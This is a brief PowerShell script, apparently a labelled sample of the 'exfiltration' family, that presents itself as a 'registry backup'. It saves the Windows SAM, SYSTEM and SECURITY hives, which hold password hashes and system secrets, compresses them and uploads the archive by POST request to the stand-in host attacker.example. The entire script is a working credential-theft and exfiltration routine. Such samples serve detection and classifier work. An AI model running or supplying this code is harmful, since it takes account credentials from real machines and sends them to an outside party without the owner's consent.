# description: "Registry backup" that saves the SAM, SYSTEM and SECURITY hives and uploads them to an external server.
# family: exfiltration
$out = 'C:\Windows\Temp\regbk'
New-Item -ItemType Directory -Path $out -Force | Out-Null
reg save HKLM\SAM "$out\sam.hiv" /y
reg save HKLM\SYSTEM "$out\system.hiv" /y
reg save HKLM\SECURITY "$out\security.hiv" /y
Compress-Archive -Path "$out\*" -DestinationPath "$out.zip" -Force
Invoke-WebRequest -Uri 'https://attacker.example/upload' -Method Post -InFile "$out.zip" -UseBasicParsing
